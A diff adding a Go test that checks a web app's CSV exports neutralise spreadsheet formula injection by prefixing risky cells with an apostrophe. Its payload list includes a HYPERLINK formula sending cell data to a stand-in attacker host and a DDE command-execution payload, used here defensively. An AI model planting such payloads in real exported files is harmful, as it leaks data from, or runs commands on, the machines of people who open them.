@@ -1,0 +1,92 @@
+package web_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+
+	"parley/models"
+	"parley/web"
+)
+
+// formulas are texts that a spreadsheet would run.
+var formulas = []string{
+	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "\"=1+1\"", "'=1+1", " =1+1", "　=1+1", "\u200b=1+1", "“=1+1”", "＝1+1", "＋1", "－x", "＠SUM(A1)", "﹦1", "−x",
+	`=HYPERLINK("https://evil.example?x="&A1,"open")`, "=cmd|'/c calc'!A0",
+}
+
+func TestCellsThatBeginAFormulaArePlain(t *testing.T) {
+	t.Parallel()
+	for _, text := range formulas {
+		if got := web.PlainCell(text); got != "'"+text {
+			t.Errorf("%q becomes %q", text, got)
+		}
+	}
+	for _, text := range []string{"", "5", "Anna", "a=b", "2026-11-24T10:00:00Z", "x-y", "“quoted”", "'", "\"", "您好", "{\"value\": 1}", "no_available_service"} {
+		if got := web.PlainCell(text); got != text {
+			t.Errorf("%q becomes %q", text, got)
+		}
+	}
+}
+
+// TestNoFileHoldsAFormula asks for every file of the route table after everything that people can name was named by a formula.
+func TestNoFileHoldsAFormula(t *testing.T) {
+	t.Parallel()
+	h := openHouse(t)
+	_, alex := h.agent("alex", models.RoleAdmin, func(n *models.NewAgent) { n.Name = "=1+alex" })
+	for _, slug := range []string{"cards", "parcels"} {
+		if _, err := h.desk.AddDepartment(t.Context(), admin, slug, "@"+slug); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for i, name := range formulas {
+		id := "user" + string(rune('a'+i))
+		if _, err := h.desk.EnsureUser(t.Context(), models.Identity{ID: id, Name: name, Email: "=" + id + "@example.com"}); err != nil {
+			t.Fatal(err)
+		}
+		got, err := h.desk.Assign(t.Context(), id, models.AssignRequest{Message: name, Department: "cards", PageTitle: name})
+		if err != nil {
+			t.Fatal(err)
+		}
+		h.browse("GET", "/supervisor/chats/"+got.Chat.ID, alex, nil).want(200)
+		if _, err := h.desk.SetPriority(t.Context(), admin, got.Chat.ID, -7); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, err := h.desk.EnsureUser(t.Context(), models.Identity{ID: "=id", Name: "no"}); err != nil {
+		t.Fatal(err)
+	}
+	if err := h.desk.RenameDepartment(t.Context(), admin, "parcels", "+parcels"); err != nil {
+		t.Fatal(err)
+	}
+	h.browse("POST", "/login", alex, url.Values{"email": {"=x@example.com"}, "password": {"=wrong"}})
+	if err := h.desk.Sample(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	files, defused := 0, 0
+	for _, line := range web.Lines() {
+		if !strings.HasSuffix(line.Path, ".csv") {
+			continue
+		}
+		files++
+		body := h.browse(line.Method, line.Path, alex, nil).want(200).Body
+		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
+		if err != nil || len(rows) < 2 {
+			t.Fatalf("%s has %d rows: %v", line.Path, len(rows), err)
+		}
+		for _, cell := range slices.Concat(rows...) {
+			bare := strings.TrimLeft(cell, "\"“ \u3000\u200b\n\r\t")
+			if strings.HasPrefix(cell, "'") {
+				defused++
+			} else if bare != "" && cell != "-7" && strings.ContainsAny(string([]rune(bare)[0]), "=+-@＝＋－＠−﹦") {
+				t.Errorf("%s has the cell %q", line.Path, cell)
+			}
+		}
+	}
+	if files < 3 || defused < len(formulas)+2 {
+		t.Errorf("%d files with %d cells that were made plain", files, defused)
+	}
+}
